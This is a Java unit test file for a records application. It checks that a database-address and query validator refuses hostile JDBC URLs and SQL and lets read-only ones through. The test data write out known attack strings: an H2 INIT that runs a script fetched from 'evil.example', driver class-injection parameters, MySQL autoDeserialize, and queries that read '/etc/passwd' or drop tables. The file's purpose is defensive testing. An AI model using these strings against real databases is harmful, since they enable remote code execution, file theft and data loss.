package kaijidesk.records.database;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import kaijidesk.records.RecordsFile;
import kaijidesk.records.UnreadableRecords;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

@DisplayName("Addresses and queries that do more than connect and read")
class DatabaseAddressTest {
    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil.example/x.sql'",
                "jdbc:h2:mem:x;init=create alias x as 'void x(){}'",
                "jdbc:h2:mem:x; INIT =SELECT 1",
                "jdbc:h2:mem:x;TRACE_LEVEL_SYSTEM_OUT=3;INIT=SELECT 1",
                "jdbc:h2:mem:x;MODE=Oracle\\;INIT=SELECT 1",
                "jdbc:h2:mem:x\\;y",
                "jdbc:h2:mem:x;MODE='a';SCHEMA=a b",
                "jdbc:h2:mem:x;FORBID_CREATION=FALSE",
                "jdbc:h2:file:/data/x;AUTO_SERVER=TRUE",
                "jdbc:h2:file:/data/x;DATABASE_EVENT_LISTENER='evil.Listener'",
                "jdbc:h2:file:/data/x;TRACE_LEVEL_FILE=3",
                "jdbc:h2:file:zip:/data/x.zip!/x",
                "jdbc:h2:zip:/data/x.zip!/x",
                "jdbc:h2:file:nio:/data/x",
                "jdbc:h2:file:relative",
                "jdbc:h2:/data/x",
                "jdbc:h2:~/x",
                "jdbc:h2:tcp://evil.example/x?y",
                "jdbc:h2:tcp://a b/x",
                "jdbc:h2:mem:",
                "jdbc:h2:",
                "JDBC:H2:mem:x",
                "jdbc:postgresql://db.example/m?socketFactory=org.evil.X&socketFactoryArg=http://x",
                "jdbc:postgresql://db.example/m?sslfactory=org.evil.X",
                "jdbc:postgresql://db.example/m?loggerFile=/data/x&loggerLevel=TRACE",
                "jdbc:postgresql://db.example/m?authenticationPluginClassName=x",
                "jdbc:postgresql://db.example/m?options=-c%20x",
                "jdbc:postgresql://db.example/m?user=x&password=y",
                "jdbc:postgresql:m",
                "jdbc:mysql://db.example/m?autoDeserialize=true",
                "jdbc:derby:memory:x;create=true",
                "jdbc:sqlite:/data/x",
                "http://db.example",
                ""
            })
    @DisplayName("are refused before a driver sees them")
    void hostile(String address) {
        assertThatThrownBy(() -> DatabaseAddress.checked(address))
                .isInstanceOfSatisfying(
                        UnreadableRecords.class,
                        e -> {
                            assertThat(e.why()).isEqualTo(UnreadableRecords.Why.DATABASE_ADDRESS);
                            assertThat(e.getMessage()).doesNotContain("evil", "example");
                        });
    }

    @ParameterizedTest
    @CsvSource({
        "jdbc:h2:mem:market, jdbc:h2:mem:market;IFEXISTS=TRUE;LAZY_QUERY_EXECUTION=1",
        "jdbc:h2:file:/data/m, jdbc:h2:file:/data/m;ACCESS_MODE_DATA=r;IFEXISTS=TRUE;LAZY_QUERY_EXECUTION=1",
        "jdbc:h2:tcp://db.example:9092/m, jdbc:h2:tcp://db.example:9092/m;IFEXISTS=TRUE;LAZY_QUERY_EXECUTION=1",
        "jdbc:h2:ssl://db/m;SCHEMA=x, jdbc:h2:ssl://db/m;SCHEMA=x;IFEXISTS=TRUE;LAZY_QUERY_EXECUTION=1",
        "jdbc:postgresql://db.example:5432/m?sslmode=verify-full, jdbc:postgresql://db.example:5432/m?sslmode=verify-full",
        "'jdbc:postgresql://a:1,b:2/m?targetServerType=secondary', 'jdbc:postgresql://a:1,b:2/m?targetServerType=secondary'"
    })
    @DisplayName("what only connects is completed so that it only reads")
    void good(String address, String checked) throws Exception {
        assertThat(DatabaseAddress.checked(address)).isEqualTo(checked);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                "delete from member",
                "select 1; drop table member",
                "select * into other from member",
                "select * from final table (insert into member values (1))",
                "with x as (delete from member returning *) select * from x",
                "select csvwrite('/tmp/x', 'select 1')",
                "select file_read('/etc/passwd')",
                "select pg_read_file('/etc/passwd')",
                "select * from dblink('x', 'y')",
                "select lo_export(1, '/tmp/x')",
                "call x()",
                "select 1 -- and",
                "select /* x */ 1",
                "select $$x$$",
                "select 'x\\' , csvwrite(1)",
                "select 'open",
                "select * from member where member_id = ?"
            })
    @DisplayName("queries that write, call, or reach out are refused")
    void hostileQueries(String query) {
        assertThatThrownBy(() -> QueryCheck.checked(RecordsFile.MEMBERS, query))
                .isInstanceOfSatisfying(
                        UnreadableRecords.class,
                        e -> assertThat(e.why()).isEqualTo(UnreadableRecords.Why.DATABASE_QUERY));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "select * from member",
                "  SELECT m.id AS member_id, 'update; --' AS nickname FROM \"delete\" m",
                "with x as (select 1 as y) select y from x where replaced_at is null"
            })
    @DisplayName("queries that read pass, whatever stands in quotes")
    void goodQueries(String query) throws Exception {
        assertThat(QueryCheck.checked(RecordsFile.MEMBERS, query)).isEqualTo(query);
    }
}
